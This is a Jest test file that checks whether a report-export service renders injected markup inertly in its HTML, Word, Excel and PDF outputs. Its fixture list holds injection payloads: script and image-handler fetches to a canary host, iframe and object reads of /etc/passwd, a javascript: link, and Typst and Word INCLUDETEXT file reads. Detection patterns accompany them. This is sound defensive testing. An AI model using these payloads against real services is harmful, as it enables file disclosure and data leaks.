import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { unzipSync } from 'fflate';
import { Canary } from '../support/canary.js';
import { outgoingWorld, type OutgoingWorld } from '../support/outgoing-world.js';
import { expectUnharmed } from '../support/unharmed.js';

/** In the languages of a page, a stylesheet, a drawing, the typesetter, the office programs and of markdown. */
const markup = (host: string): readonly string[] => [
  `<img src="http://${host}/i" onerror="fetch('http://${host}/e')">`,
  `<iframe src="file:///etc/passwd"></iframe>`,
  `<script src="http://${host}/s"></script><script>fetch("http://${host}/f")</script>`,
  `<style>@import url("http://${host}/c"); @font-face { src: url(http://${host}/w) }</style>`,
  `<svg onload="fetch('http://${host}/v')"><image href="file:///etc/passwd"/><foreignObject/></svg>`,
  `<object data="file:///etc/passwd"></object><embed src="http://${host}/o"><link rel="stylesheet" href="http://${host}/l">`,
  `<meta http-equiv="refresh" content="0;url=http://${host}/m"><base href="http://${host}/">`,
  `<a href="javascript:fetch('http://${host}/j')">x</a></p></body></html>`,
  `#read("/etc/passwd") #image("http://${host}/t.png") #eval("1+1") $ sum $ @label *x*`,
  '<w:instrText>INCLUDETEXT "/etc/passwd"</w:instrText> & &lt; &#60;script&#62; ]]> <!-- --> <?x ?>',
  `![x](http://${host}/k) [x](file:///etc/passwd) \`x\``,
];

let canary: Canary;
let world: OutgoingWorld;
beforeAll(async () => {
  canary = await Canary.open();
  world = await outgoingWorld(markup(canary.host));
}, 180_000);
afterAll(async () => {
  canary.close();
  await world.stop();
}, 60_000);

async function fileOf(kind: string): Promise<Buffer> {
  const headers = { authorization: `Bearer ${world.system.token}` };
  const answer = await fetch(new URL(`/api/v1/reports/${world.report}.${kind}`, world.system.baseUrl), { headers });
  expect([kind, answer.status]).toEqual([kind, 200]);
  return Buffer.from(await answer.arrayBuffer());
}

const ofThisMachine = /root:[x*]?:0:0/;

describe('markup in the words of a bulletin', () => {
  it('A21 is text in its page: no element, no address, no style of it', async () => {
    const page = (await fileOf('html')).toString();
    expect(page).toContain('&lt;iframe src=');
    expect(page).not.toMatch(/<(?:script|iframe|object|embed|link|img (?!src="data:)|base|foreignObject)[\s>]/i);
    expect(page).not.toMatch(/<[^>]*\s(?:on\w+|href|src)=["'](?!data:|#)[^"']*["']/i);
    expect([...page.matchAll(/<\/?style/g)]).toHaveLength(2);
    expect(page).not.toMatch(ofThisMachine);
  }, 60_000);

  it.each(['docx', 'xlsx'])(
    'A21 is text in .%s: no field, no link outside, no part that is loaded',
    async (kind) => {
      const parts = Object.entries(unzipSync(await fileOf(kind))).map(([name, bytes]) => [name, Buffer.from(bytes).toString()] as const); // prettier-ignore
      const texts = parts.map(([, text]) => text).join('\n');
      expect(texts).toMatch(/&lt;i(?:frame|mg)/);
      expect(texts).not.toMatch(ofThisMachine);
      expect(parts.filter(([name, text]) => name.endsWith('.rels') && /TargetMode="External"/.test(text)).map(([name]) => name)).toEqual([]); // prettier-ignore
      expect(texts).not.toMatch(/<w:instrText[^>]*>[^<]*INCLUDE/);
    },
    60_000,
  );

  it('A21 is text in .pdf, and names no file of this machine', async () => {
    const pdf = (await fileOf('pdf')).toString('latin1');
    expect(pdf.startsWith('%PDF-')).toBe(true);
    expect(pdf).not.toMatch(/\/(?:JavaScript|Launch|EmbeddedFile|URI)\b/);
    expect(pdf).not.toMatch(ofThisMachine);
  }, 120_000);

  it('A21 asked nobody for anything, and leaves the service as it was', async () => {
    expect([canary.calls, await canary.isAwake()]).toEqual([0, true]);
    await expectUnharmed(world.system);
  });
});
